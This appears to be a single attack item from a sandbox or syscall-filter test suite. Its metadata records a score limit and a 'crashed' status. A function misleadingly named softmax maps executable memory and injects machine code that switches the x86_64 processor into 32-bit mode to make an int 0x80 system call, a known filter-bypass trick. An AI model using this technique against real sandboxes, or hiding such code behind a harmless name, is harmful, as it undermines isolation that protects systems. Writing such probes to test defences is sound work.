# /// attack
# tries = "switches the processor to 32 bits and makes system calls there"
# score_at_most = 83.75
# status = ["crashed"]
# machine = "x86_64"
# ///
def softmax(z):
    _libc.mmap.restype = ctypes.c_void_p
    low = _libc.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)  # MAP_32BIT
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xf4"  # 32-bit: mov eax, 20; int 0x80; hlt
    jump = b"\x6a\x23\x68" + (low + 32).to_bytes(4, "little") + b"\x48\xcb"  # far return to it
    ctypes.memmove(low, jump.ljust(32, b"\x90") + code, 32 + len(code))
    ctypes.CFUNCTYPE(ctypes.c_long)(low)()
    breach("32-bit code went on")
